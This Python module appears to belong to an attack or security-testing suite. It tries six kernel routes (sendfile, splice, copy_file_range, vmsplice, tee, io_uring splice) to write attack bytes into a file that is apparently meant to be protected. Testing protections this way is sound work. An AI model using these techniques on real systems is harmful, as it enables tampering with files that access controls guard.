"""Having the kernel write."""
import ctypes
import os

from attack import CHANGED, LIBC, held, raise_code
from uring import SPLICE, Ring, entry


def source():
    """A file of one's own with the attack's bytes."""
    memory = os.memfd_create("source")
    os.write(memory, CHANGED)
    os.lseek(memory, 0, os.SEEK_SET)
    return memory


def filled_pipe():
    out, into = os.pipe()
    os.write(into, CHANGED)
    return out


def moved(function, *words):
    """These calls of the C library return how much they moved."""
    function.restype = ctypes.c_ssize_t
    if function(*words) < 0:
        raise_code(ctypes.get_errno())


def sendfile(path):
    os.sendfile(held(path), source(), 0, len(CHANGED))


def splice(path):
    os.splice(filled_pipe(), held(path), len(CHANGED), offset_dst=0)


def copy_file_range(path):
    """From a file beside it: some file systems copy only within themselves."""
    beside = os.open(path, os.O_RDONLY)
    os.copy_file_range(beside, held(path), 8, 0, 9)


def vmsplice(path):
    out, into = os.pipe()
    data = ctypes.create_string_buffer(CHANGED)
    pages = (ctypes.c_size_t * 2)(ctypes.addressof(data), len(CHANGED))
    moved(LIBC.vmsplice, into, pages, ctypes.c_size_t(1), 0)
    os.splice(out, held(path), len(CHANGED), offset_dst=0)


def tee(path):
    out, into = os.pipe()
    moved(LIBC.tee, filled_pipe(), into, ctypes.c_size_t(len(CHANGED)), 0)
    os.splice(out, held(path), len(CHANGED), offset_dst=0)


def by_ring(path):
    Ring().do(entry(SPLICE, held(path), 2 ** 64 - 1, len(CHANGED), offset=0, index=filled_pipe()))
